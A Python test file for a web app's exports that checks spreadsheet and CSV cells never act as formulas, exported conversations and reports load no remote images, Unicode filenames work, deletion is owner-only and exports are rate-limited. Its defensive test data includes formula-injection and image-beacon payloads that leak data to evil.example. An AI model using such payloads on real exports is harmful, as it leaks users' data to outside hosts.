"""What leaves the app can't act on its own: no spreadsheet cell is a formula (headers included), no exported
document loads anything when opened, a title in any script names the file, stored reports are bounded and
deletable by their owner only."""

from __future__ import annotations

import csv
import io
import re
from html import unescape
from typing import Any
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook
from starlette.testclient import TestClient

from backend.ai_columns.schemas import AiColumn
from backend.db.models import Conversation, Report
from backend.db.session import Database
from tests.api.test_exports import build, store, user_id
from tests.api.test_exports import table_body as shared_body
from tests.fakes.anthropic_server import FakeAnthropic, Script
from tests.fakes.fake_page import chat

pytestmark = pytest.mark.usefixtures("test_registry")


def table_body(**extra: Any) -> dict[str, Any]:
    """test_exports' table, its rows copied: these tests change cells."""
    body = shared_body(**extra)
    return {**body, "rows": [dict(row) for row in body["rows"]]}

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&B2,"Open")'
LEAK = "![](http://evil.example/leak?conv=1) and ![logo](https://cdn.example/x.png) <img src=http://evil.example/i>"


def test_no_cell_of_a_table_export_is_a_formula_headers_included(alice: TestClient, db: Database) -> None:
    verdict = AiColumn(name="Verdict", criteria="Is it randomized?", type="boolean")
    store(db, user_id(db, "alice"), verdict, "300", "MET", "Said so.\vTwice.", ["=WEBSERVICE(\"http://x\")"])
    body = table_body(columns=[{"key": "pmid", "label": "PMID"}, {"key": "title", "label": HOSTILE}],
                      ai_columns=[verdict.model_dump()])
    body["rows"][0]["title"] = "tab\vbed"

    r = alice.post("/api/exports/table?format=xlsx", json=body)
    assert r.status_code == 200, r.text  # a \v in a cell or a cached verdict was a 500 (IllegalCharacterError)
    sheet = load_workbook(io.BytesIO(r.content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}  # text: nothing Excel would evaluate
    assert [c.value for c in next(sheet.iter_rows())][:2] == ["PMID", HOSTILE]
    values = [c.value for c in cells]
    # The evidence leads with where it stands in the record (an unplaced quote says so), and stays text.
    assert "tabbed" in values and "Said so.Twice." in values
    assert '[not found in the record] =WEBSERVICE("http://x")' in values

    rows = list(csv.reader(io.StringIO(alice.post("/api/exports/table?format=csv", json=body).text.lstrip("\ufeff"))))
    assert rows[0][1] == "'" + HOSTILE
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_an_ai_column_named_like_a_formula_is_refused(alice: TestClient) -> None:
    column = {"name": "=HYPERLINK(\"https://evil.example\")", "criteria": "x", "type": "boolean"}
    r = alice.post("/api/ai-columns/evaluate", json={"column": column, "app": "trialscout", "ids": ["NCT00000102"]})
    assert r.status_code == 422 and "can't start with '='" in r.json()["detail"]
    r = alice.post("/api/exports/table", json=table_body(ai_columns=[column]))
    assert r.status_code == 422


def test_exported_conversations_load_nothing(alice: TestClient, fake_llm: FakeAnthropic) -> None:
    fake_llm.script(Script.text(f"Here: {LEAK}"))
    conv = chat(alice, "show me")[0].data["conversation_id"]
    html = alice.get(f"/api/conversations/{conv}/export?format=html").text
    assert "<img" not in html and "evil.example/leak" not in html
    assert "[image: evil.example]" in html and "[image: logo (cdn.example)]" in html
    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html)
    assert policy and "default-src 'none'" in unescape(policy.group(1)) and "img-src data:" in policy.group(1)

    md = alice.get(f"/api/conversations/{conv}/export?format=markdown").text
    assert "![" not in md and "<img" not in md
    assert r"\[image: evil.example\]" in md and "&lt;img src=http://evil.example/i>" in md


def test_reports_show_images_as_text_and_are_deleted_by_their_owner_only(
        alice: TestClient, bob: TestClient, db: Database) -> None:
    ready = build(alice, table_body(title="Отчёт", summary=f"Summary {LEAK}"))[-1].data["report"]
    page = alice.get(ready["html_url"] + "?download=true")
    assert "<img" not in page.text and "[image: evil.example]" in page.text
    assert 'http-equiv="Content-Security-Policy"' in page.text
    disposition = page.headers["content-disposition"]  # a Cyrillic title was a 500 (the header is Latin-1)
    assert disposition.startswith('attachment; filename="export.html"; filename*=UTF-8\'\'')
    assert unquote(disposition.split("UTF-8''")[1]) == "отчёт.html"

    assert bob.delete(f"/api/reports/{ready['id']}").status_code == 404
    assert alice.get(ready["pdf_url"]).status_code == 200
    assert alice.delete(f"/api/reports/{ready['id']}").status_code == 204
    assert alice.get(ready["html_url"]).status_code == 404
    assert alice.delete(f"/api/reports/{ready['id']}").status_code == 404
    with db.session() as s:
        assert s.query(Report).count() == 0


def test_a_conversation_title_in_any_script_names_its_file(alice: TestClient, fake_llm: FakeAnthropic,
                                                           db: Database) -> None:
    fake_llm.script(Script.text("Answer."))
    conv = chat(alice, "hi")[0].data["conversation_id"]
    with db.session() as s:
        s.get(Conversation, conv).title = "肺癌の臨床試験"  # type: ignore[union-attr]
    r = alice.get(f"/api/conversations/{conv}/export?format=markdown")
    assert r.status_code == 200
    assert unquote(r.headers["content-disposition"].split("UTF-8''")[1]) == "肺癌の臨床試験.md"


def test_report_cells_are_clipped_and_exports_are_rate_limited(db_url: str, fake_llm: FakeAnthropic,
                                                                db: Database) -> None:
    from backend.main import create_app
    from tests.conftest import make_settings, signed_in

    app = create_app(make_settings(db_url, COLLEAGUE_EXPORTS_PER_MINUTE=2))
    carol = signed_in(app, db, "carol")
    try:
        body: dict[str, Any] = table_body(title="long", include_answer=False)
        body["rows"][0]["title"] = "word " * 3_000  # 15,000 characters in one cell
        assert build(carol, body)[-1].event == "report_ready"
        with db.session() as s:
            html = s.query(Report).one().html
        assert "word " * 390 in html and "word " * 410 not in html  # kept to 2,000 characters
        assert carol.post("/api/exports/table", json=table_body()).status_code == 200
        r = carol.post("/api/exports/table", json=table_body())
        assert r.status_code == 429 and "at most 2 a minute" in r.json()["detail"]
    finally:
        carol.__exit__(None, None, None)
